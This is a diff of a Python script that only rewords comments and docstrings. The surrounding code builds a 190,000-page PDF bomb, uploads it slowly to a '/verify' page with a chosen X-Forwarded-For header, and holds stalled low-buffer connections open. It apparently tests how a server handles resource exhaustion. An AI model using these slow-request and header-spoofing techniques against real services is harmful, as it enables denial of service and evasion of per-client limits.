@@ -13,13 +13,13 @@ from pathlib import Path
 PAGES = 190_000
 # Bytes per second.
 DRIP = 1500
-# States in the system's list of connections (/proc/net/tcp): FIN_WAIT2 and TIME_WAIT, of which the system keeps only a
-# number, and LISTEN.
+# States in the system's list of connections (/proc/net/tcp) that are not counted: FIN_WAIT2 and TIME_WAIT, for which
+# the system keeps hardly any data, and LISTEN.
 NOTHING_KEPT = ("05", "06", "0A")
 
 
 def page_bomb(pages: int = PAGES) -> bytes:
-    """Return a file of `pages` empty pages, about 100 bytes each: correct by the standard, and signed by nobody."""
+    """Return a PDF of `pages` empty pages, about 100 bytes each: correct by the standard, with an invalid signature."""
     kids = b" ".join(b"%d 0 R" % number for number in range(5, 5 + pages))
     objects = [
         b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]/SigFlags 3>>>>",
@@ -60,7 +60,7 @@ class Target:
         return ("\r\n".join(lines) + "\r\n\r\n").encode()
 
     def kept(self) -> set[int]:
-        """Return the ports of all clients whose connections the server's system still keeps, whether the server closed
+        """Return the client ports of all connections that the server's system still keeps, whether the server closed
         them or not."""
         found = set()
         for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
@@ -71,8 +71,8 @@ class Target:
 
 
 async def drip(target: Target, address: str) -> int | None:
-    """Upload a file to the check page at 1.5 KB a second. Return the status of the answer, or None if the hub hangs
-    up."""
+    """Upload a file slowly to the check page, DRIP bytes a second. Return the status of the answer, or None if the hub
+    hangs up."""
     reader, writer = await asyncio.open_connection(target.host, target.port)
     writer.write(
         target.head("POST /verify", X_Forwarded_For=address, Content_Type="application/pdf", Content_Length=19 << 20)
@@ -92,7 +92,7 @@ async def _status(reader: asyncio.StreamReader) -> int | None:
 
 
 class Stalled:
-    """A connection that sends something and then reads nothing, or little. Its receive buffer is as small as
+    """A connection that sends a request and then reads little or nothing. Its receive buffer is as small as
     possible."""
 
     def __init__(self, target: Target, sent: bytes) -> None:
@@ -105,7 +105,7 @@ class Stalled:
             self._socket.send(sent)
 
     async def read(self, per_second: int, most: int = 1 << 40) -> bytes:
-        """Read `per_second` bytes a second until `most` bytes have come or the server has hung up. Return what came."""
+        """Read `per_second` bytes a second until `most` bytes have come or the server has hung up. Return the bytes."""
         loop, came = asyncio.get_running_loop(), bytearray()
         with contextlib.suppress(ConnectionError):
             while len(came) < most and (piece := await loop.sock_recv(self._socket, per_second // 10)):
